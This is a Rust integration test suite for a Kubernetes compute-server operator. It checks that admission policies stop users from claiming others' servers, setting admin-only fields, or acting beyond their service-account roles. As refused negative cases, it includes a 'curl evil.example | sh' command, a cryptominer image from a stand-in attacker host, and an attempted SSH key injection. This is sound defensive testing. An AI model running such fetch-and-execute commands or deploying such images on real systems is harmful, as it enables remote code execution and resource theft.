//! "Only yourself" at the API server: the chart's admission policies (applied by the stack, as
//! `make up` does) against the real kube-apiserver, with people and the roles' ServiceAccounts
//! impersonated the way kubectl does it (`--as`, `--as-group`). Each rule is refused for a user
//! and allowed for an admin, and a refused request stores nothing.

mod support;

use std::process::Output;

use serde_json::Value;
use support::{TestNamespace, WebFront, eventually, install_crds, kubectl, kubectl_ok};

/// How the local API server's OIDC authenticator names people and their groups.
const PREFIX: &str = "oidc:";

/// Someone kubectl acts as: a user name and groups.
struct As {
    user: String,
    groups: Vec<String>,
}

impl As {
    /// A person signed in through Keycloak, in group `students`.
    fn person(name: &str) -> As {
        As {
            user: format!("{PREFIX}{name}"),
            groups: vec![format!("{PREFIX}students"), "system:authenticated".into()],
        }
    }

    /// A person in the admin group (`compute-admins`, as the authenticator names it).
    fn admin(name: &str) -> As {
        As {
            user: format!("{PREFIX}{name}"),
            groups: vec![format!("{PREFIX}compute-admins"), "system:authenticated".into()],
        }
    }

    /// One of the local stack's roles (release compute-server in namespace compute).
    fn role(role: &str) -> As {
        As {
            user: format!("system:serviceaccount:compute:compute-server-{role}"),
            groups: vec![
                "system:serviceaccounts".into(),
                "system:serviceaccounts:compute".into(),
                "system:authenticated".into(),
            ],
        }
    }

    fn kubectl(&self, args: &[&str], stdin: Option<&str>) -> Output {
        let mut all = vec!["--as", &self.user];
        for group in &self.groups {
            all.extend(["--as-group", group]);
        }
        all.extend(args);
        kubectl(&all, stdin)
    }

    /// `kubectl apply` of `yaml`: Ok, or the refusal kubectl printed.
    fn apply(&self, yaml: &str) -> Result<(), String> {
        outcome(self.kubectl(&["apply", "-f", "-"], Some(yaml)))
    }

    /// `kubectl patch csrv NAME --type=merge -p PATCH`: Ok, or the refusal.
    fn patch(&self, ns: &str, name: &str, patch: &str) -> Result<(), String> {
        outcome(self.kubectl(
            &["patch", "csrv", name, "-n", ns, "--type=merge", "-p", patch],
            None,
        ))
    }
}

/// Ok, or what kubectl said on its way out.
fn outcome(out: Output) -> Result<(), String> {
    match out.status.success() {
        true => Ok(()),
        false => Err(String::from_utf8_lossy(&out.stderr).into_owned()),
    }
}

/// A ComputeServer manifest: `labels` and `spec` are YAML flow mappings' insides.
fn server(ns: &str, name: &str, labels: &str, spec: &str) -> String {
    format!(
        "apiVersion: computeserver.io/v1alpha1\nkind: ComputeServer\n\
         metadata: {{name: {name}, namespace: {ns}, labels: {{{labels}}}}}\nspec: {{{spec}}}\n"
    )
}

fn stored(ns: &str, name: &str) -> Option<Value> {
    let out = kubectl(&["get", "csrv", "-n", ns, name, "-o", "json"], None);
    out.status
        .success()
        .then(|| serde_json::from_slice(&out.stdout).unwrap())
}

/// A namespace where people (group students) have the compute-server user role, as an admin
/// gives it (README: "Identity and access").
fn namespace_for_people(prefix: &str) -> TestNamespace {
    install_crds();
    let ns = TestNamespace::new(prefix);
    let (group, admins) = (
        format!("--group={PREFIX}students"),
        format!("--group={PREFIX}compute-admins"),
    );
    kubectl_ok(
        &[
            "create",
            "rolebinding",
            "people",
            "--clusterrole=compute-server-user",
            &group,
            &admins,
            "-n",
            &ns.name,
        ],
        None,
    );
    ns
}

/// Asserts that `result` is a refusal naming `rule`.
fn refused(result: Result<(), String>, rule: &str) {
    match result {
        Ok(()) => panic!("allowed, but should be refused with: {rule}"),
        Err(error) => assert!(error.contains(rule), "expected {rule:?} in:\n{error}"),
    }
}

#[test]
fn people_create_servers_for_themselves_only_and_admins_for_anyone() {
    let ns = namespace_for_people("id-owner");
    let n = &ns.name;
    let (mallory, alice) = (As::person("mallory"), As::person("alice"));

    // What the issue found: mallory making a server for alice, with an image and many CPUs.
    let for_alice = server(
        n,
        "alices",
        "",
        "owner: alice, image: 'evil.example/miner:latest', resources: {cpu: '64'}",
    );
    refused(
        mallory.apply(&for_alice),
        "spec.owner must be your own user name (mallory)",
    );
    let for_alice = server(n, "alices", "", "owner: alice, profile: tiny");
    refused(
        mallory.apply(&for_alice),
        "spec.owner must be your own user name (mallory)",
    );
    assert!(stored(n, "alices").is_none(), "nothing was stored");

    // Her own: allowed, and the owner label is set for her by the API server.
    mallory
        .apply(&server(n, "mine", "", "owner: mallory, profile: tiny"))
        .unwrap();
    let mine = stored(n, "mine").unwrap();
    assert_eq!(mine["metadata"]["labels"]["computeserver.io/owner"], "mallory");

    // Admins make servers for anyone: system:masters (the stack's admin) and compute-admins.
    kubectl_ok(&["apply", "-f", "-"], Some(&for_alice));
    let ops = As::admin("ops");
    ops.apply(&server(n, "for-bob", "", "owner: bob, profile: tiny"))
        .unwrap();
    assert_eq!(
        stored(n, "for-bob").unwrap()["metadata"]["labels"]["computeserver.io/owner"],
        "bob"
    );

    // Someone else's server: its spec is its owner's (and admins') to change, and to delete.
    let before = stored(n, "alices").unwrap();
    refused(
        mallory.patch(n, "alices", r#"{"spec":{"sshAuthorizedKeys":["ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMn1Zbq3b2P2T5l0yYQ6i1l7q7N4o2Q9bQbq0G9d0aU1 mallory@x"]}}"#),
        "this server is alice's: only its owner or a compute-server admin may change its spec",
    );
    refused(
        outcome(mallory.kubectl(&["delete", "csrv", "alices", "-n", n], None)),
        "this server is alice's: only its owner or a compute-server admin may delete it",
    );
    assert_eq!(stored(n, "alices").unwrap()["spec"], before["spec"], "unchanged");
    alice.patch(n, "alices", r#"{"spec":{"running":false}}"#).unwrap();
    assert_eq!(stored(n, "alices").unwrap()["spec"]["running"], false);
    ops.patch(n, "alices", r#"{"spec":{"running":true}}"#).unwrap();
    outcome(alice.kubectl(&["delete", "csrv", "alices", "-n", n], None)).unwrap();
    assert!(stored(n, "alices").is_none());

    // A user name without the prefix (a client certificate, say) is compared as it is.
    let plain = As {
        user: "carol".into(),
        groups: vec![format!("{PREFIX}students")],
    };
    refused(
        plain.apply(&server(n, "carols", "", "owner: oidc:carol, profile: tiny")),
        "spec.owner must be your own user name (carol)",
    );
}

#[test]
fn sharees_change_only_what_their_role_allows_with_kubectl() {
    let ns = namespace_for_people("id-share");
    let n = &ns.name;
    let (alice, bob, dan) = (As::person("alice"), As::person("bob"), As::person("dan"));
    let carol = As {
        user: format!("{PREFIX}carol"),
        // students: the group the namespace's role binding names, so RBAC lets her try.
        groups: vec![
            format!("{PREFIX}staff"),
            format!("{PREFIX}students"),
            "system:authenticated".into(),
        ],
    };
    alice
        .apply(&server(n, "lab", "", "owner: alice, profile: tiny"))
        .unwrap();
    let shares = |list: &str| format!(r#"{{"spec":{{"sharedWith":[{list}]}}}}"#);

    // Nobody but alice shares her server to begin with.
    refused(
        bob.patch(n, "lab", &shares(r#"{"user":"bob","role":"admin"}"#)),
        "this server is alice's: only its owner or a compute-server admin may change spec.sharedWith",
    );
    // The API server's schema: a user or a group, each once.
    refused(
        alice.patch(
            n,
            "lab",
            &shares(r#"{"user":"bob","group":"staff","role":"use"}"#),
        ),
        "each sharedWith entry names a user or a group, not both",
    );
    refused(
        alice.patch(
            n,
            "lab",
            &shares(r#"{"user":"bob","role":"use"},{"user":"bob","role":"view"}"#),
        ),
        "sharedWith lists each user or group once",
    );
    let first =
        r#"{"user":"bob","role":"use"},{"user":"dan","role":"admin"},{"group":"staff","role":"view"}"#;
    alice.patch(n, "lab", &shares(first)).unwrap();

    // bob (use) starts and stops it, and changes nothing else.
    bob.patch(n, "lab", r#"{"spec":{"running":false}}"#).unwrap();
    assert_eq!(stored(n, "lab").unwrap()["spec"]["running"], false);
    refused(
        bob.patch(n, "lab", &shares(r#"{"user":"bob","role":"admin"}"#)),
        "only its owner or a compute-server admin may change spec.sharedWith (and sharees with role admin, with roles up to use)",
    );
    refused(
        bob.patch(n, "lab", r#"{"spec":{"resources":{"cpu":"2"}}}"#),
        "only its owner or a compute-server admin may change its spec",
    );
    refused(
        outcome(bob.kubectl(&["delete", "csrv", "lab", "-n", n], None)),
        "only its owner or a compute-server admin may delete it",
    );
    // carol is in staff, which may only view: no start.
    refused(
        carol.patch(n, "lab", r#"{"spec":{"running":true}}"#),
        "only its owner or a compute-server admin may start, stop or keep it running (and sharees with role use)",
    );

    // dan (admin) shares with roles up to use, and leaves the admins' entries as they are.
    let more = format!(r#"{first},{{"user":"erin","role":"use"}}"#);
    dan.patch(n, "lab", &shares(&more)).unwrap();
    refused(
        dan.patch(
            n,
            "lab",
            &shares(&format!(r#"{more},{{"user":"frank","role":"admin"}}"#)),
        ),
        "share it with the role admin or change the admins' entries",
    );
    refused(
        dan.patch(n, "lab", &shares(r#"{"user":"bob","role":"use"}"#)),
        "share it with the role admin or change the admins' entries",
    );
    // A group's role comes from the groups the API server knows: staff now uses it.
    let staff_use = more.replace(
        r#"{"group":"staff","role":"view"}"#,
        r#"{"group":"staff","role":"use"}"#,
    );
    dan.patch(n, "lab", &shares(&staff_use)).unwrap();
    carol.patch(n, "lab", r#"{"spec":{"running":true}}"#).unwrap();
    let stored = stored(n, "lab").unwrap();
    assert_eq!(stored["spec"]["running"], true);
    assert_eq!(stored["spec"]["sharedWith"].as_array().unwrap().len(), 4);
}

#[test]
fn image_command_and_the_node_label_are_for_admins_only() {
    let ns = namespace_for_people("id-admin");
    let n = &ns.name;
    let (mallory, ops) = (As::person("mallory"), As::admin("ops"));
    let cases = [
        (
            "",
            "image: computeserver/busybox:local",
            "spec.image is for compute-server admins only; choose a profile (spec.profile) instead",
        ),
        (
            "",
            "profile: tiny, command: [sh, -c, 'curl evil.example | sh']",
            "spec.command is for compute-server admins only; the profile says what a server runs",
        ),
        (
            "computeserver.io/node: gpu-1",
            "profile: tiny",
            "the label computeserver.io/node is for compute-server admins only; the scheduler places servers",
        ),
    ];
    for (n_case, (labels, spec, rule)) in cases.iter().enumerate() {
        let name = format!("case-{n_case}");
        let yaml = server(n, &name, labels, &format!("owner: mallory, {spec}"));
        refused(mallory.apply(&yaml), rule);
        assert!(stored(n, &name).is_none(), "{rule}: nothing was stored");
        ops.apply(&yaml).unwrap();
        assert!(stored(n, &name).is_some(), "{rule}: an admin may");
    }
    // The same on a change: mallory may stop her server, not change what it runs or where.
    mallory
        .apply(&server(n, "plain", "", "owner: mallory, profile: tiny"))
        .unwrap();
    mallory
        .patch(n, "plain", r#"{"spec":{"running":false}}"#)
        .unwrap();
    refused(
        mallory.patch(n, "plain", r#"{"spec":{"image":"evil.example/miner"}}"#),
        "spec.image is for compute-server admins only",
    );
    refused(
        mallory.patch(
            n,
            "plain",
            r#"{"metadata":{"labels":{"computeserver.io/node":"gpu-1"}}}"#,
        ),
        "the label computeserver.io/node is for compute-server admins only",
    );
    // An admin's image on her server stays hers to stop and start.
    mallory
        .patch(n, "case-0", r#"{"spec":{"running":false}}"#)
        .unwrap();
    let plain = stored(n, "plain").unwrap();
    assert!(
        plain["spec"]["image"].is_null() && plain["metadata"]["labels"]["computeserver.io/node"].is_null()
    );
}

#[test]
fn the_owner_label_follows_spec_owner_and_a_contradicting_one_is_refused() {
    let ns = namespace_for_people("id-label");
    let n = &ns.name;
    let mallory = As::person("mallory");
    let rule = "the label computeserver.io/owner must be the label form of spec.owner (mallory), not alice";
    refused(
        mallory.apply(&server(
            n,
            "posing",
            "computeserver.io/owner: alice",
            "owner: mallory, profile: tiny",
        )),
        rule,
    );
    // For admins too: the web front and the bastion list servers by it.
    let out = kubectl(
        &["apply", "-f", "-"],
        Some(&server(
            n,
            "posing",
            "computeserver.io/owner: alice",
            "owner: mallory, profile: tiny",
        )),
    );
    refused(outcome(out), rule);
    assert!(stored(n, "posing").is_none());
    mallory
        .apply(&server(
            n,
            "posing",
            "computeserver.io/owner: mallory",
            "owner: mallory, profile: tiny",
        ))
        .unwrap();
    refused(
        mallory.patch(
            n,
            "posing",
            r#"{"metadata":{"labels":{"computeserver.io/owner":"alice"}}}"#,
        ),
        rule,
    );
    // Taken off, it comes back.
    mallory
        .patch(
            n,
            "posing",
            r#"{"metadata":{"labels":{"computeserver.io/owner":null}}}"#,
        )
        .unwrap();
    assert_eq!(
        stored(n, "posing").unwrap()["metadata"]["labels"]["computeserver.io/owner"],
        "mallory"
    );

    // A user name that is no label value gets the hashed form, which CEL cannot compute: the API
    // server checks its form, and the web front sets it, or corrects it, at once.
    let email = As::person("alice@example.org");
    let hashed = compute_server::api::owner_label("alice@example.org");
    refused(
        email.apply(&server(
            n,
            "odd",
            "computeserver.io/owner: alice",
            "owner: alice@example.org, profile: tiny",
        )),
        "must be the label form of spec.owner (u- and 32 hex digits, for alice@example.org), not alice",
    );
    email
        .apply(&server(n, "odd", "", "owner: alice@example.org, profile: tiny"))
        .unwrap();
    assert!(stored(n, "odd").unwrap()["metadata"]["labels"]["computeserver.io/owner"].is_null());
    let wrong = "u-0123456789abcdef0123456789abcdef";
    email
        .apply(&server(
            n,
            "odd-2",
            &format!("computeserver.io/owner: {wrong}"),
            "owner: alice@example.org, profile: tiny",
        ))
        .unwrap();
    let _web = WebFront::start(n, "compute-server", &[]);
    for name in ["odd", "odd-2"] {
        eventually(&format!("the web front to label {name}"), 10, || {
            let labels = &stored(n, name).unwrap()["metadata"]["labels"];
            (labels["computeserver.io/owner"] == hashed.as_str()).then_some(())
        });
    }
    let listed = kubectl_ok(
        &[
            "get",
            "csrv",
            "-n",
            n,
            "-l",
            &format!("computeserver.io/owner={hashed}"),
            "-o",
            "name",
        ],
        None,
    );
    assert_eq!(listed.lines().count(), 2, "{listed}");
}

#[test]
fn the_roles_service_accounts_may_do_their_job_only() {
    let ns = namespace_for_people("id-roles");
    let n = &ns.name;
    // RBAC lets each role patch servers here; the admission policy decides what it may change.
    for role in ["agent", "scheduler", "web"] {
        kubectl_ok(
            &[
                "create",
                "rolebinding",
                role,
                "--clusterrole=compute-server-user",
                &format!("--serviceaccount=compute:compute-server-{role}"),
                "-n",
                n,
            ],
            None,
        );
    }
    let status = "--resource=computeservers.computeserver.io/status";
    kubectl_ok(
        &["create", "role", "status", "--verb=get,patch", status, "-n", n],
        None,
    );
    let agent_account = "--serviceaccount=compute:compute-server-agent";
    kubectl_ok(
        &[
            "create",
            "rolebinding",
            "status",
            "--role=status",
            agent_account,
            "-n",
            n,
        ],
        None,
    );
    let (agent, scheduler, web) = (As::role("agent"), As::role("scheduler"), As::role("web"));

    // The web front has checked the person's token: it makes servers for anyone, by the rules.
    web.apply(&server(n, "bobs", "", "owner: bob, profile: tiny"))
        .unwrap();
    refused(
        web.apply(&server(n, "imaged", "", "owner: bob, image: evil.example/miner")),
        "spec.image is for compute-server admins only",
    );
    let before = stored(n, "bobs").unwrap();

    // The agent: the finalizer (and status), nothing else.
    agent
        .patch(
            n,
            "bobs",
            r#"{"metadata":{"finalizers":["computeserver.io/container"]}}"#,
        )
        .unwrap();
    let agent_rule = "the agent's service account may change only the finalizers and status of a server";
    refused(
        agent.patch(n, "bobs", r#"{"spec":{"running":false}}"#),
        agent_rule,
    );
    refused(
        agent.patch(n, "bobs", r#"{"metadata":{"labels":{"team":"x"}}}"#),
        agent_rule,
    );
    refused(
        agent.patch(
            n,
            "bobs",
            r#"{"metadata":{"labels":{"computeserver.io/node":"n1"}}}"#,
        ),
        agent_rule,
    );
    refused(
        agent.apply(&server(
            n,
            "agents",
            "",
            "owner: system:serviceaccount:compute:compute-server-agent, profile: tiny",
        )),
        agent_rule,
    );
    refused(
        outcome(agent.kubectl(&["delete", "csrv", "bobs", "-n", n], None)),
        agent_rule,
    );
    let status = r#"{"status":{"message":"from the agent"}}"#;
    outcome(agent.kubectl(
        &[
            "patch",
            "csrv",
            "bobs",
            "-n",
            n,
            "--subresource=status",
            "--type=merge",
            "-p",
            status,
        ],
        None,
    ))
    .unwrap();

    // The scheduler: the node label (and status), nothing else.
    scheduler
        .patch(
            n,
            "bobs",
            r#"{"metadata":{"labels":{"computeserver.io/node":"node-a"}}}"#,
        )
        .unwrap();
    let scheduler_rule = "the scheduler's service account may change only the label computeserver.io/node and the status of a server";
    refused(
        scheduler.patch(n, "bobs", r#"{"spec":{"resources":{"cpu":"64"}}}"#),
        scheduler_rule,
    );
    refused(
        scheduler.patch(n, "bobs", r#"{"metadata":{"finalizers":null}}"#),
        scheduler_rule,
    );

    let after = stored(n, "bobs").unwrap();
    assert_eq!(after["spec"], before["spec"], "no role changed the spec");
    assert_eq!(
        after["metadata"]["finalizers"],
        serde_json::json!(["computeserver.io/container"])
    );
    assert_eq!(after["metadata"]["labels"]["computeserver.io/node"], "node-a");
    assert_eq!(after["status"]["message"], "from the agent");
    // The lifecycle's stop: spec.running from true to false and nothing else; never a start.
    refused(
        scheduler.patch(n, "bobs", r#"{"spec":{"running":false,"sshAuthorizedKeys":[]}}"#),
        scheduler_rule,
    );
    scheduler
        .patch(n, "bobs", r#"{"spec":{"running":false}}"#)
        .unwrap();
    refused(
        scheduler.patch(n, "bobs", r#"{"spec":{"running":true}}"#),
        scheduler_rule,
    );
    assert_eq!(stored(n, "bobs").unwrap()["spec"]["running"], false);
    kubectl_ok(
        &[
            "patch",
            "csrv",
            "bobs",
            "-n",
            n,
            "--type=merge",
            "-p",
            r#"{"metadata":{"finalizers":null}}"#,
        ],
        None,
    );
}

#[test]
fn a_real_service_account_token_of_the_agent_cannot_change_a_spec() {
    let ns = namespace_for_people("id-token");
    let n = &ns.name;
    // The agent's ServiceAccount as the chart names it, with a token the API server issues.
    let sa = "compute-server-agent";
    let yaml =
        format!("apiVersion: v1\nkind: ServiceAccount\nmetadata: {{name: {sa}, namespace: compute}}\n");
    kubectl_ok(&["apply", "-f", "-"], Some(&yaml));
    kubectl_ok(
        &[
            "create",
            "rolebinding",
            "agent",
            "--clusterrole=compute-server-user",
            &format!("--serviceaccount=compute:{sa}"),
            "-n",
            n,
        ],
        None,
    );
    let token = kubectl_ok(
        &["create", "token", sa, "-n", "compute", "--duration", "10m"],
        None,
    );
    let admin: Value = serde_json::from_str(&kubectl_ok(
        &["config", "view", "--raw", "--minify", "-o", "json"],
        None,
    ))
    .unwrap();
    let kubeconfig = serde_json::json!({
        "apiVersion": "v1",
        "kind": "Config",
        "clusters": [{"name": "local", "cluster": admin["clusters"][0]["cluster"]}],
        "users": [{"name": sa, "user": {"token": token.trim()}}],
        "contexts": [{"name": "local", "context": {"cluster": "local", "user": sa}}],
        "current-context": "local",
    });
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("agent.kubeconfig");
    std::fs::write(&path, kubeconfig.to_string()).unwrap();
    kubectl_ok(
        &["apply", "-f", "-"],
        Some(&server(n, "dev", "", "owner: alice, profile: tiny")),
    );
    let as_agent = |patch: &str| {
        let out = std::process::Command::new(support::Stack::get().var("KUBECTL"))
            .arg("--kubeconfig")
            .arg(&path)
            .args(["patch", "csrv", "dev", "-n", n, "--type=merge", "-p", patch])
            .output()
            .unwrap();
        outcome(out)
    };
    refused(
        as_agent(r#"{"spec":{"profile":"debian"}}"#),
        "the agent's service account may change only the finalizers and status of a server",
    );
    as_agent(r#"{"metadata":{"finalizers":["computeserver.io/container"]}}"#).unwrap();
    assert_eq!(stored(n, "dev").unwrap()["spec"]["profile"], "tiny");
    kubectl_ok(
        &[
            "patch",
            "csrv",
            "dev",
            "-n",
            n,
            "--type=merge",
            "-p",
            r#"{"metadata":{"finalizers":null}}"#,
        ],
        None,
    );
}

#[test]
fn the_bastion_and_the_web_front_apply_their_activity_entries_past_the_policy() {
    let ns = namespace_for_people("id-activity");
    let n = &ns.name;
    // What the chart's Roles give them on servers' status: patch.
    let status = "--resource=computeservers.computeserver.io/status";
    kubectl_ok(
        &["create", "role", "activity", "--verb=patch", status, "-n", n],
        None,
    );
    for role in ["bastion", "web"] {
        let account = format!("--serviceaccount=compute:compute-server-{role}");
        kubectl_ok(
            &[
                "create",
                "rolebinding",
                role,
                "--role=activity",
                &account,
                "-n",
                n,
            ],
            None,
        );
    }
    kubectl_ok(
        &["apply", "-f", "-"],
        Some(&server(n, "bobs", "", "owner: bob, profile: tiny")),
    );
    let before = stored(n, "bobs").unwrap();

    // The identity policy matches the servers themselves, not their status: each role's apply of
    // its own entry (server-side apply on the status subresource, its own field manager) passes.
    for (role, source) in [("bastion", "ssh"), ("web", "web")] {
        let entry = format!(
            "apiVersion: computeserver.io/v1alpha1\nkind: ComputeServer\nmetadata: {{name: bobs, namespace: {n}}}\n\
             status: {{activity: [{{source: {source}, lastSeen: '2026-12-01T14:00:00Z', detail: from {role}}}]}}\n"
        );
        let manager = format!("--field-manager=compute-server-{role}");
        let args = [
            "apply",
            "--server-side",
            "--subresource=status",
            &manager,
            "-f",
            "-",
        ];
        outcome(As::role(role).kubectl(&args, Some(&entry))).unwrap();
    }
    let after = stored(n, "bobs").unwrap();
    let activity: Vec<(&str, &str)> = after["status"]["activity"]
        .as_array()
        .expect("activity")
        .iter()
        .map(|a| (a["source"].as_str().unwrap(), a["detail"].as_str().unwrap()))
        .collect();
    assert_eq!(activity, [("ssh", "from bastion"), ("web", "from web")]);
    assert_eq!(after["spec"], before["spec"]);
}

/// spec.restoreFrom is set when a server is made, and changed later only to move a server off a
/// lost node: by its owner, or by the scheduler (with the node label) when its profile says so.
#[test]
fn spec_restore_from_changes_only_to_move_a_server_off_a_lost_node() {
    let ns = namespace_for_people("id-move");
    let n = &ns.name;
    kubectl_ok(
        &[
            "create",
            "rolebinding",
            "scheduler",
            "--clusterrole=compute-server-user",
            "--serviceaccount=compute:compute-server-scheduler",
            "-n",
            n,
        ],
        None,
    );
    let (alice, scheduler) = (As::person("alice"), As::role("scheduler"));
    let node = "computeserver.io/node: n1";
    kubectl_ok(
        &["apply", "-f", "-"],
        Some(&server(n, "box", node, "owner: alice, profile: tiny")),
    );
    let rule = "changed only to move a server off a lost node (phase NodeLost)";
    let moving = r#"{"spec":{"restoreFrom":{"snapshot":"box-1"}}}"#;
    refused(alice.patch(n, "box", moving), rule);
    refused(
        scheduler.patch(
            n,
            "box",
            r#"{"metadata":{"labels":{"computeserver.io/node":null}},"spec":{"restoreFrom":{"snapshot":"box-1"}}}"#,
        ),
        "the scheduler's service account may change only",
    );
    assert!(
        stored(n, "box").unwrap()["spec"]["restoreFrom"].is_null(),
        "unchanged"
    );

    // Its node is lost (the scheduler says so in its status): now it may be moved.
    kubectl_ok(
        &[
            "patch",
            "csrv",
            "box",
            "-n",
            n,
            "--subresource=status",
            "--type=merge",
            "-p",
            r#"{"status":{"phase":"NodeLost"}}"#,
        ],
        None,
    );
    // Not by someone else, nor with another change on the way.
    refused(
        As::person("mallory").patch(n, "box", moving),
        "this server is alice's: only its owner or a compute-server admin may change its spec",
    );
    refused(
        scheduler.patch(
            n,
            "box",
            r#"{"spec":{"restoreFrom":{"snapshot":"box-1"},"profile":"big"}}"#,
        ),
        "the scheduler's service account may change only",
    );
    scheduler
        .patch(
            n,
            "box",
            r#"{"metadata":{"labels":{"computeserver.io/node":null}},"spec":{"restoreFrom":{"snapshot":"box-1"}}}"#,
        )
        .unwrap();
    alice
        .patch(n, "box", r#"{"spec":{"restoreFrom":{"snapshot":"box-2"}}}"#)
        .unwrap();
    let moved = stored(n, "box").unwrap();
    assert_eq!(moved["spec"]["restoreFrom"]["snapshot"], "box-2");
    assert!(moved["metadata"]["labels"]["computeserver.io/node"].is_null());
    refused(
        outcome(alice.kubectl(
            &[
                "patch",
                "csrv",
                "box",
                "-n",
                n,
                "--type=json",
                "-p",
                r#"[{"op":"remove","path":"/spec/restoreFrom"}]"#,
            ],
            None,
        )),
        "spec.restoreFrom cannot be removed once set",
    );
}
